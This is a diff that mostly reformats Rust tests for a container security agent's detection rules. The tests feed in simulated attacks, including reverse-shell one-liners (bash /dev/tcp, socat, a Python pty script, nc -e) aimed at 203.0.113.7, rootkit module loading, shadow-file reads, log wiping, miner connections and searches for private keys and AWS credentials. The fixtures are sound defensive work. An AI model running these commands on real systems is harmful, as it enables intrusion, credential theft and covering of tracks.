@@ -41,10 +41,22 @@ const TESTED: &[&str] = &[
 fn every_default_rule_is_tested_and_loads_cleanly() {
     let rules = default_rules();
     for rule in rules.rules() {
-        assert!(TESTED.contains(&&*rule.name), "no test for default rule {:?}", rule.name);
+        assert!(
+            TESTED.contains(&&*rule.name),
+            "no test for default rule {:?}",
+            rule.name
+        );
         assert!(rule.enabled, "{} is disabled", rule.name);
-        assert!(!rule.event_types.is_empty(), "{} matches no event type", rule.name);
-        assert!(!rule.event_types.is_all(), "{} has no evt.type restriction", rule.name);
+        assert!(
+            !rule.event_types.is_empty(),
+            "{} matches no event type",
+            rule.name
+        );
+        assert!(
+            !rule.event_types.is_all(),
+            "{} has no evt.type restriction",
+            rule.name
+        );
     }
     assert_eq!(rules.rules().len(), TESTED.len());
     for t in [EventType::Clone, EventType::Fork, EventType::Procexit] {
@@ -60,21 +72,35 @@ fn terminal_shell_in_container() {
     // kubectl exec -it web -- bash: `runc exec` (a host process) starts runc's init in
     // the container, which execs bash with the pty: bash's parent is runc.
     let (_, alerts) = w.spawn(11, Exec::new("bash", &["bash"]).tty(PTS0));
-    assert!(!fired(&alerts, rule), "a child of runc outside the container is the host's");
+    assert!(
+        !fired(&alerts, rule),
+        "a child of runc outside the container is the host's"
+    );
     let exec_init = w.container(WEB);
     let alerts = w.exec(exec_init, Exec::new("bash", &["bash"]).tty(PTS0));
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
     let init = w.container(WEB);
     let a = alerts.iter().find(|a| &*a.rule == rule).unwrap();
-    assert!(a.output.contains("container_id=aaaaaaaaaaaa"), "{}", a.output);
-    assert!(a.output.contains("k8s_ns=default k8s_pod_name=web-7d4b9"), "{}", a.output);
+    assert!(
+        a.output.contains("container_id=aaaaaaaaaaaa"),
+        "{}",
+        a.output
+    );
+    assert!(
+        a.output.contains("k8s_ns=default k8s_pod_name=web-7d4b9"),
+        "{}",
+        a.output
+    );
     assert!(a.output.contains("terminal=34816"), "{}", a.output);
     // Controls: no terminal (kubectl exec without -t), and a shell a server started.
     let (_, alerts) = w.spawn(init, Exec::new("sh", &["sh", "-c", "date"]));
     assert!(!fired(&alerts, rule));
     let (nginx, _) = w.spawn(init, Exec::new("nginx", &["nginx"]));
     let (_, alerts) = w.spawn(nginx, Exec::new("sh", &["sh"]).tty(PTS0));
-    assert!(!fired(&alerts, rule), "parent nginx is no container entrypoint");
+    assert!(
+        !fired(&alerts, rule),
+        "parent nginx is no container entrypoint"
+    );
     // A terminal shell on the host is not a container's.
     let (_, alerts) = w.spawn(1, Exec::new("bash", &["bash"]).tty(PTS0));
     assert!(!fired(&alerts, rule));
@@ -88,9 +114,16 @@ fn write_below_etc() {
     let (bash, _) = w.spawn(1, Exec::new("bash", &["bash"]).tty(PTS0));
     let alerts = w.open(bash, "/etc/ld.so.preload", WRITE_TRUNC);
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    assert!(alerts[0].output.contains("file=/etc/ld.so.preload"), "{}", alerts[0].output);
+    assert!(
+        alerts[0].output.contains("file=/etc/ld.so.preload"),
+        "{}",
+        alerts[0].output
+    );
     // A path that only normalises below /etc is below /etc.
-    assert!(fired(&w.open(bash, "/tmp/../etc/cron.d/x", WRITE_TRUNC), rule));
+    assert!(fired(
+        &w.open(bash, "/tmp/../etc/cron.d/x", WRITE_TRUNC),
+        rule
+    ));
     // Controls: reading, writing elsewhere, a package manager, and the exception.
     assert!(!fired(&w.open(bash, "/etc/passwd", libc::O_RDONLY), rule));
     assert!(!fired(&w.open(bash, "/tmp/x", WRITE_TRUNC), rule));
@@ -98,10 +131,19 @@ fn write_below_etc() {
     let (dpkg, _) = w.spawn(bash, Exec::new("dpkg", &["dpkg", "-i", "x.deb"]));
     assert!(!fired(&w.open(dpkg, "/etc/x.conf", WRITE_TRUNC), rule));
     let (sh, _) = w.spawn(dpkg, Exec::new("sh", &["sh", "postinst"]));
-    assert!(!fired(&w.open(sh, "/etc/x.conf", WRITE_TRUNC), rule), "run by dpkg");
+    assert!(
+        !fired(&w.open(sh, "/etc/x.conf", WRITE_TRUNC), rule),
+        "run by dpkg"
+    );
     let (kubelet, _) = w.spawn(1, Exec::new("kubelet", &["kubelet"]));
-    assert!(!fired(&w.open(kubelet, "/etc/kubernetes/manifests/etcd.yaml", WRITE_TRUNC), rule));
-    assert!(fired(&w.open(kubelet, "/etc/passwd", WRITE_TRUNC), rule), "only its own files");
+    assert!(!fired(
+        &w.open(kubelet, "/etc/kubernetes/manifests/etcd.yaml", WRITE_TRUNC),
+        rule
+    ));
+    assert!(
+        fired(&w.open(kubelet, "/etc/passwd", WRITE_TRUNC), rule),
+        "only its own files"
+    );
     // A failed open (fd.num < 0) wrote nothing.
     let mut failed = w.open(bash, "/etc/x", WRITE_TRUNC);
     failed.clear();
@@ -111,7 +153,10 @@ fn write_below_etc() {
         flags: WRITE_TRUNC as u32,
         mode: 0,
     });
-    assert!(!fired(&w.event(bash, EventType::Openat, args, -(libc::EACCES as i64)), rule));
+    assert!(!fired(
+        &w.event(bash, EventType::Openat, args, -(libc::EACCES as i64)),
+        rule
+    ));
 }
 
 #[test]
@@ -122,7 +167,10 @@ fn read_sensitive_file_untrusted() {
     let (cat, _) = w.spawn(bash, Exec::new("cat", &["cat", "/etc/shadow"]));
     let alerts = w.open(cat, "/etc/shadow", libc::O_RDONLY);
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    assert!(fired(&w.open(cat, "/etc/sudoers.d/90-cloud", libc::O_RDONLY), rule));
+    assert!(fired(
+        &w.open(cat, "/etc/sudoers.d/90-cloud", libc::O_RDONLY),
+        rule
+    ));
     // Controls: a non-sensitive file, and the programs that read shadow for a living.
     assert!(!fired(&w.open(cat, "/etc/hostname", libc::O_RDONLY), rule));
     let (sshd, _) = w.spawn(1, Exec::new("sshd", &["sshd", "-D"]));
@@ -137,7 +185,10 @@ fn package_manager_in_container() {
     let mut w = World::new();
     let init = w.container(WEB);
     let (sh, _) = w.spawn(init, Exec::new("sh", &["sh"]).tty(PTS0));
-    let (apt, alerts) = w.spawn(sh, Exec::new("apt-get", &["apt-get", "install", "-y", "nmap"]));
+    let (apt, alerts) = w.spawn(
+        sh,
+        Exec::new("apt-get", &["apt-get", "install", "-y", "nmap"]),
+    );
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
     // Controls: apt's own children (dpkg), apt on the host, and apt's _apt sandbox user.
     let (_, alerts) = w.spawn(apt, Exec::new("dpkg", &["dpkg", "--unpack", "nmap.deb"]));
@@ -157,12 +208,23 @@ fn ptrace_attach() {
     for request in [16, 0x4206, 4, 5] {
         // ATTACH, SEIZE, POKETEXT, POKEDATA
         let alerts = w.ptrace(inject, request, victim as i32);
-        assert!(fired(&alerts, rule), "request {request}: {:?}", names(&alerts));
+        assert!(
+            fired(&alerts, rule),
+            "request {request}: {:?}",
+            names(&alerts)
+        );
     }
-    assert!(w.ptrace(inject, 16, victim as i32)[0].output.contains("request=PTRACE_ATTACH"));
+    assert!(
+        w.ptrace(inject, 16, victim as i32)[0]
+            .output
+            .contains("request=PTRACE_ATTACH")
+    );
     // Controls: reading a tracee (PEEKDATA), detaching, TRACEME, a known debugger.
     for request in [2, 17, 0] {
-        assert!(!fired(&w.ptrace(inject, request, victim as i32), rule), "request {request}");
+        assert!(
+            !fired(&w.ptrace(inject, request, victim as i32), rule),
+            "request {request}"
+        );
     }
     let mut w = World::with_rules(
         node_agent_security::RuleSetBuilder::new()
@@ -192,15 +254,28 @@ fn kernel_module_injection_from_container() {
     let rule = "Linux Kernel Module Injection Detected";
     let mut w = World::new();
     let init = w.container(WEB);
-    let (insmod, _) = w.spawn(init, Exec::new("insmod", &["insmod", "/tmp/rootkit.ko"]).caps(CAP_SYS_MODULE | CAP_SYS_ADMIN));
+    let (insmod, _) = w.spawn(
+        init,
+        Exec::new("insmod", &["insmod", "/tmp/rootkit.ko"]).caps(CAP_SYS_MODULE | CAP_SYS_ADMIN),
+    );
     let alerts = w.finit_module(insmod, "/tmp/rootkit.ko");
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    assert!(alerts[0].output.contains("module=/tmp/rootkit.ko"), "{}", alerts[0].output);
+    assert!(
+        alerts[0].output.contains("module=/tmp/rootkit.ko"),
+        "{}",
+        alerts[0].output
+    );
     // Controls: without CAP_SYS_MODULE (the attempt fails), and modprobe on the host.
     let (weak, _) = w.spawn(init, Exec::new("insmod", &["insmod", "/tmp/rootkit.ko"]));
     assert!(!fired(&w.finit_module(weak, "/tmp/rootkit.ko"), rule));
-    let (modprobe, _) = w.spawn(1, Exec::new("modprobe", &["modprobe", "br_netfilter"]).caps(u64::MAX >> 23));
-    assert!(!fired(&w.finit_module(modprobe, "/lib/modules/br_netfilter.ko"), rule));
+    let (modprobe, _) = w.spawn(
+        1,
+        Exec::new("modprobe", &["modprobe", "br_netfilter"]).caps(u64::MAX >> 23),
+    );
+    assert!(!fired(
+        &w.finit_module(modprobe, "/lib/modules/br_netfilter.ko"),
+        rule
+    ));
 }
 
 #[test]
@@ -225,9 +300,18 @@ fn netcat_remote_code_execution() {
     let rule = "Netcat Remote Code Execution in Container";
     let mut w = World::new();
     let init = w.container(WEB);
-    let (_, alerts) = w.spawn(init, Exec::new("nc", &["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]));
+    let (_, alerts) = w.spawn(
+        init,
+        Exec::new("nc", &["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]),
+    );
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    let (_, alerts) = w.spawn(init, Exec::new("ncat", &["ncat", "--sh-exec", "bash", "203.0.113.7", "4444"]));
+    let (_, alerts) = w.spawn(
+        init,
+        Exec::new(
+            "ncat",
+            &["ncat", "--sh-exec", "bash", "203.0.113.7", "4444"],
+        ),
+    );
     assert!(fired(&alerts, rule));
     // Control: netcat as a port checker.
     let (_, alerts) = w.spawn(init, Exec::new("nc", &["nc", "-z", "db", "5432"]));
@@ -239,17 +323,35 @@ fn reverse_shell() {
     let rule = "Reverse Shell Launched";
     let mut w = World::new();
     let init = w.container(WEB);
-    let (_, alerts) = w.spawn(init, Exec::new("bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]));
+    let (_, alerts) = w.spawn(
+        init,
+        Exec::new(
+            "bash",
+            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
+        ),
+    );
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    let (_, alerts) = w.spawn(1, Exec::new("socat", &["socat", "tcp:203.0.113.7:4444", "EXEC:/bin/bash,pty"]));
+    let (_, alerts) = w.spawn(
+        1,
+        Exec::new(
+            "socat",
+            &["socat", "tcp:203.0.113.7:4444", "EXEC:/bin/bash,pty"],
+        ),
+    );
     assert!(fired(&alerts, rule));
     let py = "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")";
     let (_, alerts) = w.spawn(init, Exec::new("python3", &["python3", "-c", py]));
     assert!(fired(&alerts, rule));
     // Controls: an ordinary shell command and socat as a plain relay.
-    let (_, alerts) = w.spawn(init, Exec::new("bash", &["bash", "-c", "curl -s http://web/healthz"]));
+    let (_, alerts) = w.spawn(
+        init,
+        Exec::new("bash", &["bash", "-c", "curl -s http://web/healthz"]),
+    );
     assert!(!fired(&alerts, rule));
-    let (_, alerts) = w.spawn(1, Exec::new("socat", &["socat", "tcp-listen:80", "tcp:10.0.0.1:8080"]));
+    let (_, alerts) = w.spawn(
+        1,
+        Exec::new("socat", &["socat", "tcp-listen:80", "tcp:10.0.0.1:8080"]),
+    );
     assert!(!fired(&alerts, rule));
 }
 
@@ -258,10 +360,19 @@ fn contact_kubernetes_api_server() {
     let rule = "Contact K8S API Server From Container";
     let mut w = World::new();
     let init = w.container(WEB);
-    let (curl, _) = w.spawn(init, Exec::new("curl", &["curl", "-k", "https://10.96.0.1/api"]));
+    let (curl, _) = w.spawn(
+        init,
+        Exec::new("curl", &["curl", "-k", "https://10.96.0.1/api"]),
+    );
     let alerts = w.connect(curl, "10.96.0.1:443");
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    assert!(alerts[0].output.contains("connection=10.244.1.7:40112->10.96.0.1:443"), "{}", alerts[0].output);
+    assert!(
+        alerts[0]
+            .output
+            .contains("connection=10.244.1.7:40112->10.96.0.1:443"),
+        "{}",
+        alerts[0].output
+    );
     // Controls: another service, another port, kube-system, the host, node-agent itself.
     assert!(!fired(&w.connect(curl, "10.96.0.2:443"), rule));
     assert!(!fired(&w.connect(curl, "10.96.0.1:80"), rule));
@@ -284,14 +395,26 @@ fn mount_from_container() {
     let rule = "Mount from Container";
     let mut w = World::new();
     let init = w.container(WEB);
-    let (mount, _) = w.spawn(init, Exec::new("mount", &["mount", "/dev/sda1", "/mnt"]).caps(CAP_SYS_ADMIN));
+    let (mount, _) = w.spawn(
+        init,
+        Exec::new("mount", &["mount", "/dev/sda1", "/mnt"]).caps(CAP_SYS_ADMIN),
+    );
     let alerts = w.mount(mount, "/dev/sda1", "/mnt", "ext4");
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    assert!(alerts[0].output.contains("dev=/dev/sda1 dir=/mnt type=ext4"), "{}", alerts[0].output);
+    assert!(
+        alerts[0]
+            .output
+            .contains("dev=/dev/sda1 dir=/mnt type=ext4"),
+        "{}",
+        alerts[0].output
+    );
     // Controls: runc setting the container up, and mounts on the host.
     assert!(!fired(&w.mount(init, "proc", "/proc", "proc"), rule));
     let (host_mount, _) = w.spawn(1, Exec::new("mount", &["mount", "-a"]));
-    assert!(!fired(&w.mount(host_mount, "/dev/sdb1", "/data", "xfs"), rule));
+    assert!(!fired(
+        &w.mount(host_mount, "/dev/sdb1", "/data", "xfs"),
+        rule
+    ));
 }
 
 #[test]
@@ -302,14 +425,23 @@ fn clear_log_activities() {
     // > /var/log/auth.log
     let alerts = w.open(bash, "/var/log/auth.log", WRITE_TRUNC);
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    assert!(fired(&w.open(bash, "/var/log/nginx/access.log", WRITE_TRUNC), rule));
+    assert!(fired(
+        &w.open(bash, "/var/log/nginx/access.log", WRITE_TRUNC),
+        rule
+    ));
     // Controls: appending (every logger), truncating elsewhere, logrotate's copytruncate.
     let append = libc::O_WRONLY | libc::O_APPEND | libc::O_CREAT;
     let (rsyslogd, _) = w.spawn(1, Exec::new("rsyslogd", &["rsyslogd"]));
     assert!(!fired(&w.open(rsyslogd, "/var/log/syslog", append), rule));
     assert!(!fired(&w.open(bash, "/tmp/out.log", WRITE_TRUNC), rule));
-    let (logrotate, _) = w.spawn(1, Exec::new("logrotate", &["logrotate", "/etc/logrotate.conf"]));
-    assert!(!fired(&w.open(logrotate, "/var/log/syslog", WRITE_TRUNC), rule));
+    let (logrotate, _) = w.spawn(
+        1,
+        Exec::new("logrotate", &["logrotate", "/etc/logrotate.conf"]),
+    );
+    assert!(!fired(
+        &w.open(logrotate, "/var/log/syslog", WRITE_TRUNC),
+        rule
+    ));
 }
 
 #[test]
@@ -319,7 +451,10 @@ fn delete_log_files() {
     let (bash, _) = w.spawn(1, Exec::new("bash", &["bash"]));
     let (_, alerts) = w.spawn(bash, Exec::new("rm", &["rm", "-rf", "/var/log/nginx"]));
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    let (_, alerts) = w.spawn(bash, Exec::new("truncate", &["truncate", "-s0", "/var/log/wtmp"]));
+    let (_, alerts) = w.spawn(
+        bash,
+        Exec::new("truncate", &["truncate", "-s0", "/var/log/wtmp"]),
+    );
     assert!(fired(&alerts, rule));
     // Controls: other files, and logrotate's own helpers.
     let (_, alerts) = w.spawn(bash, Exec::new("rm", &["rm", "-rf", "/tmp/build"]));
@@ -348,7 +483,11 @@ fn miner_pool_ports() {
     let (xmrig, _) = w.spawn(init, Exec::new("xmrig", &["xmrig"]));
     let alerts = w.connect(xmrig, "203.0.113.9:3333");
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    assert!(alerts[0].output.contains("ip=203.0.113.9 port=3333"), "{}", alerts[0].output);
+    assert!(
+        alerts[0].output.contains("ip=203.0.113.9 port=3333"),
+        "{}",
+        alerts[0].output
+    );
     // Controls: a private destination, loopback, and a web port.
     assert!(!fired(&w.connect(xmrig, "10.0.0.5:3333"), rule));
     assert!(!fired(&w.connect(xmrig, "127.0.0.1:3333"), rule));
@@ -360,7 +499,19 @@ fn stratum_miner() {
     let rule = "Detect crypto miners using the Stratum protocol";
     let mut w = World::new();
     let init = w.container(WEB);
-    let (_, alerts) = w.spawn(init, Exec::new("xmrig", &["xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"]));
+    let (_, alerts) = w.spawn(
+        init,
+        Exec::new(
+            "xmrig",
+            &[
+                "xmrig",
+                "-o",
+                "stratum+tcp://pool.example:3333",
+                "-u",
+                "wallet",
+            ],
+        ),
+    );
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
     let (_, alerts) = w.spawn(init, Exec::new("xmrig", &["xmrig", "--help"]));
     assert!(!fired(&alerts, rule));
@@ -370,7 +521,10 @@ fn stratum_miner() {
 fn search_private_keys() {
     let rule = "Search Private Keys or Passwords";
     let mut w = World::new();
-    let (_, alerts) = w.spawn(1, Exec::new("grep", &["grep", "-r", "BEGIN RSA PRIVATE", "/home"]));
+    let (_, alerts) = w.spawn(
+        1,
+        Exec::new("grep", &["grep", "-r", "BEGIN RSA PRIVATE", "/home"]),
+    );
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
     let (_, alerts) = w.spawn(1, Exec::new("find", &["find", "/", "-name", "id_ed25519"]));
     assert!(fired(&alerts, rule));
@@ -382,9 +536,15 @@ fn search_private_keys() {
 fn find_aws_credentials() {
     let rule = "Find AWS Credentials";
     let mut w = World::new();
-    let (_, alerts) = w.spawn(1, Exec::new("grep", &["grep", "-ri", "aws_secret_access_key", "/"]));
+    let (_, alerts) = w.spawn(
+        1,
+        Exec::new("grep", &["grep", "-ri", "aws_secret_access_key", "/"]),
+    );
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    let (_, alerts) = w.spawn(1, Exec::new("find", &["find", "/", "-path", "*/.aws/credentials"]));
+    let (_, alerts) = w.spawn(
+        1,
+        Exec::new("find", &["find", "/", "-path", "*/.aws/credentials"]),
+    );
     assert!(fired(&alerts, rule));
     let (_, alerts) = w.spawn(1, Exec::new("find", &["find", "/var", "-name", "*.log"]));
     assert!(!fired(&alerts, rule));
@@ -399,7 +559,10 @@ fn execution_from_dev_shm() {
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
     let (_, alerts) = w.spawn(init, Exec::new("sh", &["sh", "-c", "/dev/shm/run.sh"]));
     assert!(fired(&alerts, rule));
-    let (_, alerts) = w.spawn(init, Exec::new("x", &["/usr/local/bin/x"]).exe_path("/usr/local/bin/x"));
+    let (_, alerts) = w.spawn(
+        init,
+        Exec::new("x", &["/usr/local/bin/x"]).exe_path("/usr/local/bin/x"),
+    );
     assert!(!fired(&alerts, rule));
 }
 
@@ -407,10 +570,17 @@ fn execution_from_dev_shm() {
 fn fileless_execution() {
     let rule = "Fileless execution via memfd_create";
     let mut w = World::new();
-    let (_, alerts) = w.spawn(1, Exec::new("3", &["payload"]).exe_path("/memfd:payload (deleted)"));
+    let (_, alerts) = w.spawn(
+        1,
+        Exec::new("3", &["payload"]).exe_path("/memfd:payload (deleted)"),
+    );
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
     // Controls: runc re-executing itself from its sealed memfd, and a normal binary.
-    let (_, alerts) = w.spawn(10, Exec::new("runc", &["runc", "init"]).exe_path("/memfd:runc_cloned:/proc/self/exe (deleted)"));
+    let (_, alerts) = w.spawn(
+        10,
+        Exec::new("runc", &["runc", "init"])
+            .exe_path("/memfd:runc_cloned:/proc/self/exe (deleted)"),
+    );
     assert!(!fired(&alerts, rule));
     let (_, alerts) = w.spawn(1, Exec::new("ls", &["ls"]));
     assert!(!fired(&alerts, rule));
@@ -448,7 +618,10 @@ fn change_thread_namespace() {
     let failed = w.event(
         evil,
         EventType::Setns,
-        node_agent_security::event::EventArgs::Setns(node_agent_security::event::SetnsArgs { fd: 3, nstype: 0 }),
+        node_agent_security::event::EventArgs::Setns(node_agent_security::event::SetnsArgs {
+            fd: 3,
+            nstype: 0,
+        }),
         -(libc::EPERM as i64),
     );
     assert!(!fired(&failed, rule));
@@ -459,12 +632,22 @@ fn unshare_in_container() {
     let rule = "Change namespace privileges via unshare";
     let mut w = World::new();
     let init = w.container(WEB);
-    let (unshare, _) = w.spawn(init, Exec::new("unshare", &["unshare", "-Ur", "sh"]).uid(1000));
+    let (unshare, _) = w.spawn(
+        init,
+        Exec::new("unshare", &["unshare", "-Ur", "sh"]).uid(1000),
+    );
     let alerts = w.unshare(unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNS);
     assert!(fired(&alerts, rule), "{:?}", names(&alerts));
-    assert!(alerts[0].output.contains("flags=CLONE_NEWNS|CLONE_NEWUSER"), "{}", alerts[0].output);
+    assert!(
+        alerts[0].output.contains("flags=CLONE_NEWNS|CLONE_NEWUSER"),
+        "{}",
+        alerts[0].output
+    );
     // Controls: a privileged container's process, and the runtime.
-    let (admin, _) = w.spawn(init, Exec::new("unshare", &["unshare", "-n"]).caps(CAP_SYS_ADMIN));
+    let (admin, _) = w.spawn(
+        init,
+        Exec::new("unshare", &["unshare", "-n"]).caps(CAP_SYS_ADMIN),
+    );
     assert!(!fired(&w.unshare(admin, libc::CLONE_NEWNET), rule));
     assert!(!fired(&w.unshare(init, libc::CLONE_NEWNS), rule));
 }
